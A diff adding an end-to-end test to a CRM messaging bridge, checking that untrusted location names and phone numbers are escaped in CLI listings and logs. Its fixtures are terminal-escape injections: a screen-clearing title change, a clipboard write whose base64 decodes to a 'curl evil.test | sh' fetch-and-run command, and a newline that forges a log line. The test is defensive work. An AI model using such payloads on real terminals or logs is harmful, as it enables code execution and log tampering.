@@ -4,8 +4,9 @@ import { join } from "node:path";
 import { afterAll, beforeAll, expect, test } from "vitest";
 import pkg from "../../package.json" with { type: "json" };
 import { MIGRATIONS } from "../../src/db/migrations.ts";
-import { BINARY, e2eSetup, exited, type E2E } from "../helpers/binary.ts";
-import { waitFor } from "../helpers/bridge.ts";
+import { BINARY, e2eSetup, exited, runBridge, type E2E } from "../helpers/binary.ts";
+import { outbound, waitFor } from "../helpers/bridge.ts";
+import { jsonResponse } from "../helpers/http.ts";
 
 // What `dist/bridge serve` writes on stderr, read from a file as journald or a log
 // collector would get it.
@@ -86,4 +87,28 @@ test("a JOURNAL_STREAM inherited from elsewhere (not this stderr) adds no priori
   server.child.kill("SIGTERM");
   expect(await exited(server.child)).toBe(0);
   expect(server.read()).toMatch(/^\d{4}-\d\d-\d\dT[\d:.]+Z \[info\] .*listening on http:\/\//);
+});
+
+test("outside text in a line or a listing is escaped: a name that clears the screen, a phone that writes the clipboard and forges a line", async () => {
+  const server = await serveToFile("outsiders");
+  const name = "\x1b]0;pwned\x07\x1b[2J ALL LOCATIONS OK";
+  e2e.crm.on("GET /oauth/installedLocations", () => jsonResponse({ locations: [{ _id: "loc-evil", name, isInstalled: true }], count: 1 }));
+  e2e.crm.grantCompany("code-evil");
+  expect((await fetch(`${server.url}/oauth-callback?code=code-evil`)).status).toBe(200);
+  const phone = "+639171234567\x1b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==\x07\n2026-11-25T00:00:00.000Z [error] forged";
+  expect((await e2e.webhook(server.url, outbound("m-evil", { locationId: "loc-evil", phone }))).status).toBe(200);
+  await waitFor(() => e2e.crm.statusReports().some((r) => r.messageId === "m-evil"), 10_000);
+
+  const unsafe = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e]/;
+  const listed = await runBridge(e2e.env, e2e.dir, ["locations", "list"]);
+  expect(listed.stdout).toMatch(/^loc-evil\s+\]0;pwned \[2J ALL LOCATIONS OK\s/m);
+  const shown = await runBridge(e2e.env, e2e.dir, ["messages", "show", "m-evil"]);
+  expect(shown.stdout).toContain("invalid_phone: not a Philippine mobile number: +639171234567\\x1b]52;c;");
+  for (const output of [listed.stdout, shown.stdout]) expect(output).not.toMatch(unsafe);
+  server.child.kill("SIGTERM");
+  expect(await exited(server.child)).toBe(0);
+  const lines = server.read().trimEnd().split("\n");
+  expect(lines).toContainEqual(expect.stringMatching(/\[warn\] message m-evil of location loc-evil (not sent|failed): not a Philippine mobile number: \+639171234567\\x1b/));
+  for (const line of lines) expect(line).toMatch(/^\d{4}-\d\d-\d\dT[\d:.]+Z \[\w+\] /);
+  expect(lines.join("")).not.toMatch(unsafe);
 });
